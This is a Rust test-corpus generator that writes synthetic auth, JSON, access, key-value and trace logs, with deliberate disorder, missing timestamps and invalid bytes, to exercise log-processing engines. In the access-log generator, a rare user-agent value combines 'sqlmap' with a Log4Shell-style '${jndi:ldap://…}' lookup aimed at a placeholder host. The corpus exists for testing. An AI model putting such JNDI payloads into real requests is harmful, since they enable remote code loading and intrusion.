//! A corpus made up by a seed: what real logs have that makes engines answer differently.
//!
//! Several formats; lines out of order and late; lines without a time; bytes that are no text;
//! lines that come once; many entities. Files are not in the order of their age.

use std::fs::{self, File};
use std::io::Write;
use std::path::Path;
use std::time::{Duration, SystemTime};

use super::harness::Chance;

const MONTHS: [&str; 12] =
    ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/// Hours, minutes and seconds of a second of the day.
fn clock(second: u64) -> String {
    format!("{:02}:{:02}:{:02}", second / 3_600 % 24, second / 60 % 60, second % 60)
}

/// A second of the day for the line `at` of `of`: mostly forward, at times late by much.
fn second(chance: &mut Chance, at: u64, of: u64) -> u64 {
    let now = 600 + at * 80_000 / of;
    match chance.below(40) {
        0 => now.saturating_sub(chance.below(9_000)),
        1..=6 => now.saturating_sub(chance.below(20)),
        _ => now,
    }
}

fn address(chance: &mut Chance, of: u64) -> String {
    let n = chance.below(of);
    format!("10.{}.{}.{}", n >> 16, n >> 8 & 255, n & 255)
}

fn auth(chance: &mut Chance, at: u64, of: u64) -> Vec<u8> {
    let (time, pid) = (clock(second(chance, at, of)), 300 + chance.below(30_000));
    let (host, user) = (chance.below(5), chance.below(40));
    let from = address(chance, 90);
    let head = format!("{} {:>2} {time} srv{host}", MONTHS[2], 3);
    let text = match chance.below(1_000) {
        0..=399 => {
            format!("sshd[{pid}]: Accepted publickey for user{user} from {from} port {pid} ssh2")
        }
        400..=599 => format!(
            "sshd[{pid}]: pam_unix(sshd:session): session opened for user user{user} by (uid=0)"
        ),
        600..=799 => format!("CRON[{pid}]: (root) CMD (/usr/lib/job{} --all)", chance.below(7)),
        800..=899 => format!(
            "sudo: user{user} : TTY=pts/0 ; PWD=/home/user{user} ; USER=root ; COMMAND=/bin/ls"
        ),
        900..=979 => {
            format!("systemd[1]: Started Session {} of user user{user}.", chance.below(90_000))
        }
        980..=993 => format!(
            "sshd[{pid}]: Failed password for invalid user u{} from {from} port {pid} ssh2",
            chance.next()
        ),
        994..=997 => format!(
            "kernel: [{pid}.1] oom {:x} killed process {} ({:x})",
            chance.next(),
            pid,
            chance.next()
        ),
        _ => format!(
            "unit{:x}: {:x} happened {:x} for the {:x} time",
            chance.below(99),
            chance.next(),
            chance.next(),
            chance.below(9)
        ),
    };
    format!("{head} {text}").into_bytes()
}

fn json(chance: &mut Chance, at: u64, of: u64) -> Vec<u8> {
    let time = clock(second(chance, at, of));
    let (service, user) = (chance.below(6), chance.below(300));
    let from = address(chance, 4_000);
    let level = ["info", "info", "info", "warn", "error"][chance.below(5) as usize];
    let message = match chance.below(300) {
        0 => format!("unexpected state {:x} in shard {}", chance.next(), chance.below(50)),
        1 => "deadlock detected; \\\"aborting\\\" transaction\\twith tab".to_owned(),
        _ => format!("request {} done in {} ms", chance.below(1 << 30), chance.below(900)),
    };
    let cut = if chance.below(500) == 0 { "" } else { "}" };
    format!(
        "{{\"ts\":\"2025-03-03T{time}Z\",\"level\":\"{level}\",\"service\":\"svc{service}\",\
         \"user\":\"user{user}\",\"client\":{{\"ip\":\"{from}\",\"n\":[1,2.5,null]}},\"msg\":\"{message}\"{cut}"
    )
    .into_bytes()
}

fn access(chance: &mut Chance, at: u64, of: u64) -> Vec<u8> {
    let time = clock(second(chance, at, of));
    let from = address(chance, 200_000);
    let (status, bytes) = (200 + 100 * (chance.below(40) / 13), chance.below(90_000));
    let agent = match chance.below(700) {
        0 => format!("sqlmap/{} ${{jndi:ldap://x{:x}}}", chance.below(9), chance.next()),
        _ => format!("Mozilla/5.0 (X11; {})", chance.below(12)),
    };
    format!(
        "{from} - user{} [03/Mar/2025:{time} +0000] \"GET /shop/item{}/view?id={} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"",
        chance.below(60),
        chance.below(400),
        chance.next(),
    )
    .into_bytes()
}

fn pairs(chance: &mut Chance, at: u64, of: u64) -> Vec<u8> {
    let time = clock(second(chance, at, of));
    let took = chance.below(1 << 40);
    let verb = ["get", "put", "scan"][chance.below(3) as usize];
    format!(
        "time=2025-03-03T{time}.{:03}Z level=info verb={verb} key=\"k {}\" took={took}ns peer={} err=",
        chance.below(1_000),
        chance.below(9_000),
        address(chance, 700),
    )
    .into_bytes()
}

/// Lines without a time: traces, bytes that are no text, what comes once.
fn timeless(chance: &mut Chance, _: u64, _: u64) -> Vec<u8> {
    match chance.below(12) {
        0 => (0..1 + chance.below(90))
            .map(|_| (chance.next() >> 8) as u8)
            .filter(|b| *b != b'\n')
            .collect(),
        1 => b"caf\xe9 \xff\xfe \x00 \x1b]0;title\x07 \xed\xa0\x80 end".to_vec(),
        2 => format!("{:x} {:x}-{:x}", chance.next(), chance.next(), chance.next()).into_bytes(),
        3 => "x".repeat(chance.below(3_000) as usize).into_bytes(),
        4..=7 => format!(
            "    at com.example.Klass{}.run(Klass.java:{})",
            chance.below(60),
            chance.below(900)
        )
        .into_bytes(),
        8 => b"Caused by: java.io.IOException: broken pipe".to_vec(),
        9 => format!("progress {} %", chance.below(101)).into_bytes(),
        _ => format!("worker {} says hello to {}", chance.below(30), address(chance, 50))
            .into_bytes(),
    }
}

type Line = fn(&mut Chance, u64, u64) -> Vec<u8>;

/// Writes the corpus into a folder; how many lines it has that are not empty.
pub(crate) fn write(dir: &Path, scale: u64) -> u64 {
    // By name, and so in the order in which they are read; the age is in days.
    let files: [(&str, Line, u64, u64); 6] = [
        ("10-auth.log", auth, 1_200, 10),
        ("20-app.json", json, 600, 20),
        ("30-access.log", access, 9_000, 5),
        ("40-pairs.log", pairs, 300, 30),
        ("50-trace.log", timeless, 300, 15),
        ("60-auth.log.1", auth, 400, 2),
    ];
    let mut chance = Chance::new(7);
    let mut written = 0;
    fs::create_dir_all(dir).unwrap();
    for (name, line, count, age) in files {
        let count = count * scale;
        let mut file = std::io::BufWriter::new(File::create(dir.join(name)).unwrap());
        for at in 0..count {
            let line = line(&mut chance, at, count);
            written += u64::from(!line.is_empty() && line != b"\r");
            file.write_all(&line).unwrap();
            file.write_all(b"\n").unwrap();
        }
        let file = file.into_inner().unwrap();
        // Late in 2025, so that times without a year are of that one.
        let written_at = SystemTime::UNIX_EPOCH + Duration::from_secs(1_763_000_000 - age * 86_400);
        file.set_modified(written_at).unwrap();
    }
    written
}
